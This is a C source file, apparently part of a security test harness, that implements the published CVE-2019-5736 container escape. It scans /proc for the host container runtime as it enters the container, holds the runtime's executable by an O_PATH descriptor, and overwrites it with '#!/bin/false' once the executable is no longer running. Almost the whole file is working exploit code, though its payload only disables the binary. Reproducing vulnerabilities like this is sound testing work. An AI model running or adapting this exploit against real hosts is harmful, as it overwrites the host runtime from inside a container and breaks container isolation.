// overwrite SECONDS: CVE-2019-5736 as it was published: waits for a process whose executable is not of this tree, which is
// the runtime's on its way in, holds the file by O_PATH, and tries to open it for writing until nobody runs it any more.
#include "attack.h"
#include <dirent.h>
#include <time.h>

/// The executable of a process that came from outside, as an O_PATH descriptor; -1 where it is one of ours.
static int foreign(const char *pid) {
  char path[300], target[4096];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  long length = readlink(path, target, sizeof target - 1);
  if (length <= 0) return -1;
  target[length] = 0;
  struct stat seen, ours;
  if (stat(path, &seen) < 0) return -1;
  if (stat(target, &ours) == 0 && ours.st_ino == seen.st_ino && ours.st_dev == seen.st_dev) return -1;
  int handle = open(path, O_PATH);
  if (handle >= 0) printf("caught %s\n", target), fflush(stdout);
  return handle;
}

int main(int argc, char **argv) {
  time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 10);
  int self = getpid(), handle = -1;
  puts("looking");
  fflush(stdout);
  while (handle < 0 && time(NULL) < end) {
    DIR *list = opendir("/proc");
    for (struct dirent *entry; handle < 0 && (entry = readdir(list));)
      if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && atoi(entry->d_name) != self) handle = foreign(entry->d_name);
    closedir(list);
  }
  if (handle < 0) return puts("nothing came by"), 0;
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
  int out = -1;
  // A program that runs cannot be written to (ETXTBSY); one that nobody can write to says so at once.
  while ((out = open(path, O_WRONLY)) < 0 && errno == ETXTBSY && time(NULL) < end) {}
  int error = errno;
  TRY("write over the runtime", out < 0 ? (errno = error, -1) : write(out, "#!/bin/false\n", 13));
  return 0;
}
